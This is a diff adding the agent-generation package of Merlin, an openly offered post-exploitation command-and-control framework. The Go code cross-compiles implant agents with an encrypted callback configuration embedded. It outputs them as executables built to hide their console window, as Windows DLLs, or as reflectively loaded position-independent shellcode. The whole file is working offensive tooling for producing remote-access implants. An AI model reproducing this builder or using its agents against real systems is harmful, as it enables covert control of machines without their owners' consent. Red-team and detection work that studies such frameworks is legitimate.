@@ -0,0 +1,319 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+// Package generate builds Merlin agents that are pre-configured to connect to a listener by cross-compiling the agent
+// source code with its configuration encrypted and embedded, the same way the Make file does, as an executable, a DLL,
+// or position independent shellcode
+package generate
+
+import (
+	// Standard
+	"context"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/config"
+	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/modules/srdi"
+	"github.com/Ne0nd0g/merlin/pkg/profiles"
+)
+
+// Output is the directory generated agents are written to when the options do not provide one
+var Output = filepath.Join(core.CurrentDir, "data", "temp", "agents")
+
+// Options are the target platform and configuration for a generated agent
+type Options struct {
+	Config     config.Config // The URL, PSK, protocol, and other settings embedded in the agent
+	OS         string        // The target operating system (i.e. windows)
+	Arch       string        // The target architecture (i.e. amd64)
+	Format     string        // The agent file format: exe, dll, or shellcode; empty is exe
+	Engagement string        // Engagement ID to watermark the agent with
+	Operator   string        // Operator to watermark the agent with
+	Output     string        // The directory the agent is written to; empty uses Output
+	Profile    string        // HTTP profile file that shapes the agent's messages; only used with https, h2, and hq
+}
+
+// platforms are the operating systems and architectures agents can be generated for
+var platforms = map[string][]string{
+	"darwin":  {"amd64"},
+	"linux":   {"386", "amd64", "arm", "arm64", "mips"},
+	"windows": {"386", "amd64"},
+}
+
+// protocols are the protocols an agent can connect with
+var protocols = []string{"https", "h2", "hq", "dns", "tcp", "ws", "wss"}
+
+// formats are the agent file formats; dll and shellcode are only built for Windows
+var formats = []string{"exe", "dll", "shellcode"}
+
+// mingw are the MinGW-w64 C compilers used to link the Windows DLL for each architecture
+var mingw = map[string]string{
+	"386":   "i686-w64-mingw32-gcc",
+	"amd64": "x86_64-w64-mingw32-gcc",
+}
+
+// GetPlatforms returns the operating system and architecture pairs agents can be generated for (i.e. linux/amd64)
+func GetPlatforms() []string {
+	var p []string
+	for _, goos := range []string{"darwin", "linux", "windows"} {
+		for _, arch := range platforms[goos] {
+			p = append(p, goos+"/"+arch)
+		}
+	}
+	return p
+}
+
+// GetProtocols returns the protocols an agent can be generated with
+func GetProtocols() []string {
+	return protocols
+}
+
+// GetFormats returns the file formats an agent can be generated as
+func GetFormats() []string {
+	return formats
+}
+
+// Agent cross-compiles the agent in the server's source directory for the target platform with the encrypted
+// configuration embedded and returns the path of the agent file. The exe format is a stageless executable built from
+// cmd/merlinagent. The dll format is built from cmd/merlinagentdll and linked with data/bin/dll/merlin.c, and the
+// shellcode format converts that DLL to position independent shellcode with a reflective loader (sRDI) that calls its
+// VoidFunc export. The Go toolchain must be installed on the server, and MinGW-w64 for the dll and shellcode formats.
+func Agent(o Options) (string, error) {
+	return AgentContext(context.Background(), o)
+}
+
+// AgentContext generates an agent like Agent; the build commands are killed and the partial agent file removed if the
+// context is cancelled before the build finishes
+func AgentContext(ctx context.Context, o Options) (string, error) {
+	o.OS, o.Arch, o.Format = strings.ToLower(o.OS), strings.ToLower(o.Arch), strings.ToLower(o.Format)
+	if !supported(o.OS, o.Arch) {
+		return "", fmt.Errorf("%s/%s is not a supported platform; use %s", o.OS, o.Arch, strings.Join(GetPlatforms(), ", "))
+	}
+	if o.Format == "" {
+		o.Format = "exe"
+	}
+	switch o.Format {
+	case "exe":
+	case "dll", "shellcode":
+		if o.OS != "windows" {
+			return "", fmt.Errorf("the %s format can only be generated for windows agents", o.Format)
+		}
+	default:
+		return "", fmt.Errorf("%s is not a valid agent format; use %s", o.Format, strings.Join(formats, ", "))
+	}
+	if o.Config.URL == "" {
+		return "", errors.New("a URL for the agent to connect to must be provided")
+	}
+	o.Config.Protocol = strings.ToLower(o.Config.Protocol)
+	if !validProtocol(o.Config.Protocol) {
+		return "", fmt.Errorf("%s is not a valid agent protocol; use %s", o.Config.Protocol, strings.Join(protocols, ", "))
+	}
+	if o.Config.Sleep != "" {
+		if _, err := time.ParseDuration(o.Config.Sleep); err != nil {
+			return "", fmt.Errorf("%s is not a valid sleep time (i.e. 30s):\r\n%s", o.Config.Sleep, err.Error())
+		}
+	}
+	if o.Config.Rotate != "" {
+		if _, err := time.ParseDuration(o.Config.Rotate); err != nil {
+			return "", fmt.Errorf("%s is not a valid callback rotation time (i.e. 1h):\r\n%s", o.Config.Rotate, err.Error())
+		}
+	}
+	if o.Profile != "" {
+		switch o.Config.Protocol {
+		case "https", "h2", "hq":
+		default:
+			return "", fmt.Errorf("HTTP profiles can not be used with the %s protocol", o.Config.Protocol)
+		}
+		p, err := profiles.Load(o.Profile)
+		if err != nil {
+			return "", err
+		}
+		o.Config.Profile = p
+	}
+
+	source := filepath.Join(core.CurrentDir, "cmd", "merlinagent")
+	if o.Format != "exe" {
+		source = filepath.Join(core.CurrentDir, "cmd", "merlinagentdll")
+	}
+	if _, err := os.Stat(filepath.Join(source, "main.go")); err != nil {
+		return "", fmt.Errorf("the agent source code was not found in %s; the server must be run from the Merlin source directory to generate agents", source)
+	}
+	goBinary, err := exec.LookPath("go")
+	if err != nil {
+		return "", errors.New("the Go toolchain was not found in the PATH; it is required to generate agents")
+	}
+
+	if o.Engagement != "" || o.Operator != "" {
+		key, err := config.WatermarkKey(filepath.Join(core.CurrentDir, "data", "x509", "watermark.key"))
+		if err != nil {
+			return "", err
+		}
+		w := config.Watermark{Engagement: o.Engagement, Operator: o.Operator, Timestamp: time.Now().UTC()}
+		o.Config.Watermark, err = config.EncryptWatermark(w, key)
+		if err != nil {
+			return "", err
+		}
+	}
+	encrypted, err := config.Encrypt(o.Config)
+	if err != nil {
+		return "", err
+	}
+
+	dir := o.Output
+	if dir == "" {
+		dir = Output
+	}
+	if err = os.MkdirAll(dir, 0750); err != nil {
+		return "", fmt.Errorf("there was an error creating the %s output directory:\r\n%s", dir, err.Error())
+	}
+	name := fmt.Sprintf("merlinAgent-%s-%s-%s", o.OS, o.Arch, time.Now().UTC().Format("20060102150405"))
+	switch o.Format {
+	case "exe":
+		if o.OS == "windows" {
+			name += ".exe"
+		}
+	case "dll":
+		name += ".dll"
+	case "shellcode":
+		name += ".bin"
+	}
+	file, err := filepath.Abs(filepath.Join(dir, name))
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting the absolute path for %s:\r\n%s", name, err.Error())
+	}
+
+	build := "generated"
+	ldflags := fmt.Sprintf("-s -w -X main.build=%s -X github.com/Ne0nd0g/merlin/pkg/agent.build=%s -X main.configuration=%s", build, build, encrypted)
+
+	switch o.Format {
+	case "dll":
+		err = buildDLL(ctx, goBinary, o.Arch, ldflags+" -buildid=", file)
+	case "shellcode":
+		err = buildShellcode(ctx, goBinary, o.Arch, ldflags+" -buildid=", file)
+	default:
+		if o.OS == "windows" {
+			ldflags += " -H=windowsgui"
+		}
+		cmd := exec.CommandContext(ctx, goBinary, "build", "-trimpath", "-ldflags", ldflags+" -buildid=", "-o", file, "./cmd/merlinagent")
+		cmd.Env = append(os.Environ(), "GOOS="+o.OS, "GOARCH="+o.Arch, "CGO_ENABLED=0")
+		if o.Arch == "arm" {
+			cmd.Env = append(cmd.Env, "GOARM=7")
+		}
+		err = run(cmd)
+	}
+	if ctx.Err() != nil {
+		_ = os.Remove(file)
+		return "", fmt.Errorf("the %s/%s %s agent build was cancelled", o.OS, o.Arch, o.Format)
+	}
+	if err != nil {
+		return "", fmt.Errorf("there was an error building the %s/%s %s agent:\r\n%s", o.OS, o.Arch, o.Format, err.Error())
+	}
+	return file, nil
+}
+
+// buildDLL builds cmd/merlinagentdll as a C archive and links it with data/bin/dll/merlin.c into a Windows DLL using
+// MinGW-w64, the same way the Make file's agent-dll target does
+func buildDLL(ctx context.Context, goBinary string, arch string, ldflags string, file string) error {
+	cc, err := exec.LookPath(mingw[arch])
+	if err != nil {
+		return fmt.Errorf("the %s compiler was not found in the PATH; MinGW-w64 is required to generate DLL and shellcode agents", mingw[arch])
+	}
+	temp, err := ioutil.TempDir("", "merlin")
+	if err != nil {
+		return fmt.Errorf("there was an error creating a temporary build directory:\r\n%s", err.Error())
+	}
+	defer os.RemoveAll(temp)
+
+	archive := exec.CommandContext(ctx, goBinary, "build", "-trimpath", "-ldflags", ldflags, "-buildmode=c-archive",
+		"-o", filepath.Join(temp, "main.a"), "./cmd/merlinagentdll")
+	archive.Env = append(os.Environ(), "GOOS=windows", "GOARCH="+arch, "CGO_ENABLED=1", "CC="+cc)
+	if err = run(archive); err != nil {
+		return err
+	}
+
+	// merlin.c includes the main.h header the Go toolchain generated next to the archive
+	src, err := ioutil.ReadFile(filepath.Join(core.CurrentDir, "data", "bin", "dll", "merlin.c"))
+	if err != nil {
+		return fmt.Errorf("there was an error reading the DLL source code:\r\n%s", err.Error())
+	}
+	if err = ioutil.WriteFile(filepath.Join(temp, "merlin.c"), src, 0600); err != nil {
+		return fmt.Errorf("there was an error writing the DLL source code:\r\n%s", err.Error())
+	}
+	link := exec.CommandContext(ctx, cc, "-shared", "-pthread", "-o", file, filepath.Join(temp, "merlin.c"),
+		filepath.Join(temp, "main.a"), "-lwinmm", "-lntdll", "-lws2_32")
+	return run(link)
+}
+
+// buildShellcode builds the agent DLL and converts it to position independent shellcode that reflectively loads the
+// DLL in memory and calls its VoidFunc export, which runs the agent with the embedded configuration
+func buildShellcode(ctx context.Context, goBinary string, arch string, ldflags string, file string) error {
+	temp, err := ioutil.TempDir("", "merlin")
+	if err != nil {
+		return fmt.Errorf("there was an error creating a temporary build directory:\r\n%s", err.Error())
+	}
+	defer os.RemoveAll(temp)
+
+	dll := filepath.Join(temp, "merlin.dll")
+	if err = buildDLL(ctx, goBinary, arch, ldflags, dll); err != nil {
+		return err
+	}
+	shellcode, err := srdi.DLLToShellcode(dll, "VoidFunc", false, "")
+	if err != nil {
+		return fmt.Errorf("there was an error converting the DLL to shellcode:\r\n%s", err.Error())
+	}
+	if err = ioutil.WriteFile(file, shellcode, 0600); err != nil {
+		return fmt.Errorf("there was an error writing the shellcode to %s:\r\n%s", file, err.Error())
+	}
+	return nil
+}
+
+// run runs a build command from the server's source directory and returns its output with any error
+func run(cmd *exec.Cmd) error {
+	cmd.Dir = core.CurrentDir
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("%s\r\n%s", err.Error(), strings.TrimSpace(string(out)))
+	}
+	return nil
+}
+
+// supported returns true if agents can be generated for the operating system and architecture
+func supported(goos string, arch string) bool {
+	for _, a := range platforms[goos] {
+		if a == arch {
+			return true
+		}
+	}
+	return false
+}
+
+// validProtocol returns true if the protocol is one an agent can connect with
+func validProtocol(protocol string) bool {
+	for _, p := range protocols {
+		if p == protocol {
+			return true
+		}
+	}
+	return false
+}